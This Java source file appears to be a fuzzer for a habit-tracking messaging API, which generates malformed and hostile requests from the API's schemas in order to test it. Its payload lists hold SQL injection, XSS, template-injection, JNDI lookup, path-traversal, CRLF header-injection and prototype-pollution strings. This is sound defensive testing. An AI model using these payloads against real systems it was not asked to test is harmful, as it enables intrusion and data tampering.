package org.habitline.whole;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.BaseJsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.habitline.whole.ApiDocument.Operation;

/**
 * Writes requests that are almost right: from the schemas of the document, then bent. The same seed
 * and the same answers give the same requests.
 */
final class Mangler {

  /** Stands in everything that a participant might have said; nobody else says it. */
  static final String MARKER = "Quibbleflax";

  static final String SCRIPT = "<script>alert(";

  private static final int LONGEST_LINE = 4_000;
  private static final Pattern PARAMETER = Pattern.compile("\\{([^}]+)}");
  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
  private static final JsonMapper PLAIN = new JsonMapper();
  private static final JsonMapper ESCAPED =
      JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          " \t\n ",
          "\u0000",
          MARKER + "\u0000" + MARKER,
          "\uD800",
          "x\uDC00\uD800x",
          "\u202E" + MARKER + "\u202C",
          "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",
          "\uD83D\uDC69\u200D\uD83C\uDFEB\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
          "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D",
          "\u2028\u2029\u0085\uFEFF",
          "\u0130I\u0131i\u00DF",
          "x".repeat(100_000),
          "\uD83D\uDE00".repeat(50_000),
          "\n".repeat(5_000),
          "'; DROP TABLE participant; --",
          "' OR '1'='1",
          "\" OR 1=1 /*",
          "%' ESCAPE '",
          "%_%",
          SCRIPT + "'" + MARKER + "')</script>",
          "\"><img src=x onerror=alert(1)>",
          "${7*7} #{7*7} {{7*7}} <%= 7 %> @{x} !{x}",
          "${jndi:ldap://x.invalid/a}",
          "../../../../etc/passwd",
          "file:///etc/passwd",
          "%00",
          "%s%n%d{}",
          MARKER + "\r\nSet-Cookie: a=b",
          "NaN",
          "Infinity",
          "-1",
          "0",
          "00",
          "1e309",
          "2147483648",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775809",
          "1.5",
          "0x10",
          "\u0661\u0662\u0663",
          "true",
          "null",
          "undefined",
          "[]",
          "{}",
          "\\",
          "\"",
          "2026-02-30",
          "2026-11-21T07:15:00Z",
          "+999999999-12-31T23:59:59Z",
          "-999999999-01-01T00:00:00Z",
          "24:00",
          "99:99",
          "8:15",
          "P1D",
          "PT9223372036854775807S",
          "-5m",
          "Europe/Berlin",
          "GMT+18:01",
          "+1",
          "+00000000000",
          "+12065550100x5",
          "tel:+12065550100",
          "+\u0661\u0662\u0660\u0666\u0665\u0665\u0665\u0660\u0661\u0660\u0660",
          "conv_000000000000000000000000");

  private static final List<String> PATHS =
      List.of(
          "%00",
          "%2F",
          "%2F..%2F..",
          "%2e%2e",
          "%5C",
          "%20",
          "+",
          "%25",
          "%3F",
          "%3Ba=b",
          ";a=b",
          "%FF",
          "%ED%A0%80",
          "%F0%9F%98%80",
          "%E2%80%AEabc",
          "%27",
          "'",
          "%22",
          "%3Cscript%3E",
          "-1",
          "0",
          "1",
          "1.5",
          "1e3",
          "2147483648",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775809",
          "abc",
          "null",
          "*",
          "x".repeat(1_000),
          "conv_000000000000000000000000",
          "%0D%0ASet-Cookie:%20a=b",
          "$%7B7*7%7D");

  private static final List<String> TYPES =
      List.of(
          "text/plain",
          "application/x-www-form-urlencoded",
          "multipart/form-data",
          "multipart/form-data; boundary=x",
          "application/json; charset=utf-16",
          "application/json;charset=nonsense",
          "application/json; charset=ISO-8859-1",
          "application/vnd.api+json",
          "APPLICATION/JSON",
          "application/xml",
          "*/*",
          "x",
          "/",
          "application/json, text/plain",
          "");

  private static final List<String> ACCEPTS =
      List.of("text/html", "*/*", "application/xml", "text/event-stream", "x", "text/html;q=0.1");

  private static final List<String> HEADERS =
      List.of(
          "",
          " ",
          "0",
          "-1",
          "1",
          "99999999999999999999",
          "9223372036854775807",
          "abc",
          "\u00e9\u00ff",
          "x".repeat(256),
          "x".repeat(6_000),
          "a, b",
          "\"quoted\"",
          "' OR 1=1 --",
          "${7*7}");

  private final Random random;
  private final ApiDocument document;

  /** What lines said that there is, by the name of the parameter that takes it. */
  private final Map<String, List<String>> known = new LinkedHashMap<>();

  Mangler(long seed, ApiDocument document) {
    this.random = new Random(seed);
    this.document = document;
  }

  boolean chance(int percent) {
    return random.nextInt(100) < percent;
  }

  <T> T one(List<T> of) {
    return of.get(random.nextInt(of.size()));
  }

  /** Remembers what an answer names, so that later requests meet what exists. */
  void learn(String path, JsonNode answer) {
    for (var field : answer.properties()) {
      var value = field.getValue();
      if (value.isValueNode()) {
        learn(field.getKey(), value.asText());
        learn(path + "/" + field.getKey(), value.asText());
      } else if (field.getKey().endsWith("_sha256")) {
        value.forEach(hash -> learn("sha256", hash.asText()));
      }
      learn(path, value);
    }
    if (answer.isArray()) {
      answer.forEach(element -> learn(path, element));
    }
  }

  private void learn(String name, String value) {
    var values = known.computeIfAbsent(name, it -> new ArrayList<>());
    if (!values.contains(value) && value.length() < 100) {
      values.add(value);
      if (values.size() > 20) {
        values.removeFirst();
      }
    }
  }

  /** A request to an operation. */
  Asked ask(Operation operation) {
    var target =
        operation.at(parameter -> inPath(operation.path(), parameter.path("name").asText()));
    var asked = Asked.of(operation.method(), fitting(target, query(operation)));
    for (var header : operation.parameters("header")) {
      if (chance(60)) {
        asked = asked.header(header.path("name").asText(), one(HEADERS));
      }
    }
    if (chance(8)) {
      asked = asked.header("Accept", one(ACCEPTS));
    }
    return operation.isWebhook() ? webhook(asked) : withBody(asked, operation);
  }

  /** A request to a page, or from a form with these fields. */
  Asked ask(PageRoute page, List<String> fields) {
    var path =
        PARAMETER
            .matcher(page.path())
            .replaceAll(it -> Matcher.quoteReplacement(inPath(page.path(), it.group(1))));
    var query =
        page.queries().stream()
            .filter(name -> chance(60))
            .map(name -> name + "=" + encoded(fitting(text(name))))
            .collect(Collectors.joining("&"));
    var asked =
        Asked.of(page.method(), query.isEmpty() ? path : fitting(path, "?" + query))
            .header("Accept", chance(90) ? "text/html" : one(ACCEPTS));
    if (chance(20)) {
      asked = asked.header("HX-Request", "true");
    }
    return page.method().equals("GET") ? asked : asked.form(form(fields));
  }

  private String form(List<String> fields) {
    var form = new ArrayList<String>();
    for (var field : fields) {
      if (chance(85)) {
        form.add(encoded(field) + "=" + encoded(text(field)));
      }
      if (chance(4)) {
        form.add(encoded(field) + "=" + encoded(one(TEXTS)));
      }
    }
    if (chance(10)) {
      form.add(one(List.of("unknown=1", "=x", "&&", "a", "%zz=1", "x=%E9%FF", "a[b]=c", "x=%00")));
    }
    return String.join("&", form);
  }

  private String inPath(String path, String name) {
    if (chance(25)) {
      return one(PATHS);
    }
    // The page of the keys has another address than the keys.
    var prefix = path.substring(0, path.indexOf("/{" + name + "}")).replace("/access", "/keys");
    var values =
        known.getOrDefault(
            prefix + "/" + name,
            name.equals("id")
                ? known.getOrDefault("/conversation/participants/id", List.of("nobody"))
                : known.getOrDefault(name, List.of("1")));
    return encoded(one(values)).replace("+", "%20");
  }

  private String query(Operation operation) {
    var pairs = new ArrayList<String>();
    for (var parameter : operation.parameters("query")) {
      var name = parameter.path("name").asText();
      if (chance(40)) {
        pairs.add(name + "=" + encoded(queried(parameter)));
      }
      if (chance(5)) {
        pairs.add(name + "=" + encoded(shortText()));
      }
    }
    if (chance(4)) {
      pairs.add(
          one(List.of("unknown=1", "unknown", "=x", "&", "a[b]=c", "%00=1", "x=%FF", "limit")));
    }
    return pairs.isEmpty() ? "" : "?" + String.join("&", pairs);
  }

  private String queried(JsonNode parameter) {
    var schema = document.resolved(parameter.path("schema"));
    return chance(35)
        ? shortText()
        : fitting(value(parameter.path("name").asText(), schema, 0).asText());
  }

  /** What fits into an address. */
  private String shortText() {
    return fitting(one(TEXTS));
  }

  /** A longer line is refused before anything of ours sees it. */
  private static String fitting(String path, String query) {
    return path.length() + query.length() > LONGEST_LINE ? path : path + query;
  }

  private static String fitting(String text) {
    return text.length() > 300 ? text.substring(0, 300) : text;
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private Asked withBody(Asked asked, Operation operation) {
    if (operation.consumes().isEmpty()) {
      return chance(3) ? asked.json("{\"unasked\":1}") : asked;
    }
    var type = chance(6) ? one(TYPES) : operation.consumes().get().replace("*/*", "text/plain");
    if (!operation.takesJson()) {
      return asked.body(bent(one(TEXTS).getBytes(StandardCharsets.UTF_8)), type);
    }
    var body = value("", document.resolved(operation.body()), 0);
    for (int i = random.nextInt(3); i > 0; i--) {
      body = mangled(body);
    }
    return asked.body(bent(written(body)), type);
  }

  private byte[] written(JsonNode body) {
    try {
      return (chance(50) ? PLAIN : ESCAPED)
          .writeValueAsString(body)
          .getBytes(StandardCharsets.UTF_8);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  /** A value by its schema, and by its name where the schema does not say what is meant. */
  private JsonNode value(String name, JsonNode schema, int depth) {
    if (schema.path("enum").isArray()) {
      return schema.path("enum").path(random.nextInt(schema.path("enum").size()));
    }
    return switch (schema.path("type").asText()) {
      case "integer" -> JSON.numberNode(random.nextInt(60));
      case "number" -> JSON.numberNode(random.nextInt(100) / 10.0);
      case "boolean" -> JSON.booleanNode(random.nextBoolean());
      case "array" -> array(name, document.resolved(schema.path("items")), depth);
      case "object", "" -> object(schema, depth);
      default -> JSON.textNode(text(name));
    };
  }

  private ArrayNode array(String name, JsonNode items, int depth) {
    var array = JSON.arrayNode();
    for (int i = random.nextInt(3); i > 0 && depth < 4; i--) {
      array.add(value(name, items, depth + 1));
    }
    return array;
  }

  private ObjectNode object(JsonNode schema, int depth) {
    var object = JSON.objectNode();
    var required = schema.path("required").toString();
    for (var property : schema.path("properties").properties()) {
      var likely = required.contains("\"" + property.getKey() + "\"") ? 95 : 60;
      if (chance(likely) && depth < 4) {
        object.set(
            property.getKey(),
            value(property.getKey(), document.resolved(property.getValue()), depth + 1));
      }
    }
    return object;
  }

  /** What somebody might well write under this name; now and then what nobody would. */
  private String text(String name) {
    if (chance(20)) {
      return one(TEXTS);
    }
    return switch (name) {
      case "phone_number", "phone" -> "+1206559" + (1000 + random.nextInt(9000));
      case "timezone" -> one(List.of("Europe/Berlin", "UTC", "America/New_York"));
      case "flow" -> "habit";
      case "channel" -> "simulator";
      case "role" -> one(List.of("researcher", "staff", "admin"));
      case "status" -> one(List.of("active", "paused", "completed", "withdrawn", "waiting", "all"));
      // Not farther: everything that is due on the way happens.
      case "advance" -> one(List.of("1s", "20s", "1m", "5m"));
      case "limit", "after" -> String.valueOf(random.nextInt(250));
      case "cursor" -> one(List.of("1", "5", "100", "2026-11-21.0"));
      case "full", "keep_transcript", "enrol", "enabled", "dry_run" ->
          one(List.of("true", "false"));
      case "participant_id", "participant" ->
          one(known.getOrDefault("/conversation/participants/id", List.of("nobody")));
      case "confirmation" -> one(List.of("erase", "erased"));
      case "time", "fixed_time", "start", "end" -> one(List.of("08:15", "21:00", "7:00"));
      case "from", "until", "at", "since", "to" ->
          one(List.of("2026-11-21T07:15:00Z", "2026-11-21", "+12065591000", "next_wakeup"));
      case "back", "page" -> one(List.of("/", "/access", "//x.invalid", "https://x.invalid/"));
      default -> MARKER + " " + random.nextInt(1000);
    };
  }

  private JsonNode bad() {
    return switch (random.nextInt(12)) {
      case 0 -> JSON.nullNode();
      case 1 -> JSON.booleanNode(random.nextBoolean());
      case 2 -> JSON.numberNode(one(List.of(0, -1, 1, Integer.MIN_VALUE, Integer.MAX_VALUE)));
      case 3 -> JSON.numberNode(one(List.of(Long.MAX_VALUE, Long.MIN_VALUE)));
      case 4 -> JSON.numberNode(new BigDecimal(one(List.of("1.5", "1e400", "-1e-400", "1e9"))));
      case 5 -> JSON.numberNode(BigInteger.TEN.pow(one(List.of(19, 40, 900))));
      case 6 -> nested(one(List.of(1, 10, 900)));
      case 7 -> JSON.objectNode();
      case 8 -> JSON.arrayNode().add(one(TEXTS));
      case 9 -> JSON.objectNode().put(one(List.of("a", "", "type", "@class", "$ref")), 1);
      default -> JSON.textNode(one(TEXTS));
    };
  }

  private static BaseJsonNode nested(int depth) {
    BaseJsonNode node = JSON.arrayNode();
    for (int i = 0; i < depth; i++) {
      node = i % 2 == 0 ? JSON.arrayNode().add(node) : JSON.objectNode().set("a", node);
    }
    return node;
  }

  /** The same with one thing in it bent. */
  private JsonNode mangled(JsonNode body) {
    if (!(body instanceof ObjectNode object) || object.isEmpty() || chance(8)) {
      return bad();
    }
    var names = new ArrayList<String>();
    object.fieldNames().forEachRemaining(names::add);
    var name = one(names);
    switch (random.nextInt(8)) {
      case 0 -> object.remove(name);
      case 1 ->
          object.set(one(List.of("unknown", "Name", "__proto__", "", "x".repeat(60_000))), bad());
      case 2 -> object.set(name, object.path(name).isObject() ? mangled(object.path(name)) : bad());
      default -> object.set(name, bad());
    }
    return object;
  }

  /** The same bytes, or, now and then, no longer what they were. */
  private byte[] bent(byte[] bytes) {
    if (!chance(12)) {
      return bytes;
    }
    var text = new String(bytes, StandardCharsets.UTF_8);
    return switch (random.nextInt(11)) {
      case 0 -> new byte[0];
      case 1 ->
          text.substring(0, random.nextInt(text.length() + 1)).getBytes(StandardCharsets.UTF_8);
      case 2 -> (text + text).getBytes(StandardCharsets.UTF_8);
      case 3 -> (text + " garbage").getBytes(StandardCharsets.UTF_8);
      case 4 -> ("\uFEFF" + text).getBytes(StandardCharsets.UTF_8);
      case 5 -> text.getBytes(StandardCharsets.UTF_16);
      case 6 ->
          text.replaceFirst("\\{", "{\"name\":1,\"name\":2,").getBytes(StandardCharsets.UTF_8);
      case 7 -> text.replaceFirst(":", ":NaN,\"x\":").getBytes(StandardCharsets.UTF_8);
      case 8 ->
          text.replaceFirst(":", ":" + "9".repeat(5_000) + ",\"x\":")
              .getBytes(StandardCharsets.UTF_8);
      case 9 -> "[".repeat(20_000).getBytes(StandardCharsets.UTF_8);
      default -> broken(bytes);
    };
  }

  /** No longer UTF-8. */
  private byte[] broken(byte[] bytes) {
    var place = random.nextInt(bytes.length + 1);
    var out = new ByteArrayOutputStream();
    out.write(bytes, 0, place);
    out.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF});
    out.write(bytes, place, bytes.length - place);
    return out.toByteArray();
  }

  private static final List<String> WEBHOOK =
      List.of(
          "MessageSid",
          "SmsSid",
          "From",
          "To",
          "Body",
          "NumMedia",
          "MediaContentType0",
          "MediaUrl0",
          "MessageType",
          "MessageStatus",
          "ErrorCode",
          "OptOutType",
          "ButtonText",
          "ListId",
          "Latitude",
          "Longitude",
          "Address",
          "ProfileName");

  private Asked webhook(Asked asked) {
    var form = new ArrayList<String>();
    for (var field : WEBHOOK) {
      if (chance(field.endsWith("Sid") || field.equals("From") ? 90 : 40)) {
        form.add(field + "=" + encoded(chance(40) ? one(TEXTS) : provided(field)));
      }
    }
    if (chance(10)) {
      form.add(one(List.of("Body=%zz", "=x", "Body=%00", "Body=%FF%C3", "&&&", "Body", "Body=a")));
    }
    var type = chance(10) ? one(TYPES) : "application/x-www-form-urlencoded";
    return asked.body(bent(String.join("&", form).getBytes(StandardCharsets.UTF_8)), type);
  }

  private String provided(String field) {
    return switch (field) {
      case "MessageSid", "SmsSid" -> "SM" + random.nextInt(300);
      case "From" ->
          one(
              List.of(
                  "+1206559" + (1000 + random.nextInt(9000)),
                  "whatsapp:+1206559" + (1000 + random.nextInt(9000)),
                  "whatsapp:US.134912086553027" + random.nextInt(100)));
      case "To" -> one(List.of("+15005550100", "whatsapp:+15005550100"));
      case "MessageStatus" ->
          one(List.of("queued", "sent", "delivered", "undelivered", "failed", "read"));
      case "ErrorCode" -> one(List.of("21610", "30003", "0"));
      case "NumMedia" -> one(List.of("0", "1", "25"));
      case "MessageType" -> one(List.of("text", "reaction", "sticker", "contacts"));
      case "OptOutType" -> one(List.of("STOP", "START", "HELP"));
      default -> MARKER + " " + random.nextInt(1000);
    };
  }
}
